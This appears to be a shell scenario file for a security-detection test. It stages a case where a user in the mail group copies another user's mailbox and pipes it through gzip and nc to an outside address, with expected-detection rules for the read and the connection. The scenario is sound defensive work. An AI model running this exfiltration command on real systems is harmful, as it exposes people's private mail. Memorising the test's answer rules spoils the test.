# Membership in the group mail opens other people's spools.
title="Member of the group mail pipes another user's spool into nc"
what="intern, whose account is in the group mail, reads the spool of buyer with dd and pipes it through gzip into nc to 203.0.113.67 port 9001, over SSH with a terminal."
host=mx1.example.org user=intern daemons="cron sshd" store=mbox audit_format=RAW

setup() { sed -i 's/^mail:x:\([0-9]*\):.*/mail:x:\1:intern/' /etc/group; }
act() {
  small_talk 4
  for n in 1 2 3; do mail_in --from "finance$n@example.net" --to buyer@example.org --subject "Accounts $n"; done
  wait_mail buyer 3
  ssh_as intern <<'L'
id
dd if=/var/mail/buyer bs=64k status=none | gzip | nc -N 203.0.113.67 9001
L
  small_talk 1
}
truth() {
  exec_step read 'dd if=/var/mail/buyer' 'another person s spool is read'
  net_step connect 'nc.* 203.0.113.67:9001' 'and piped outside'
}
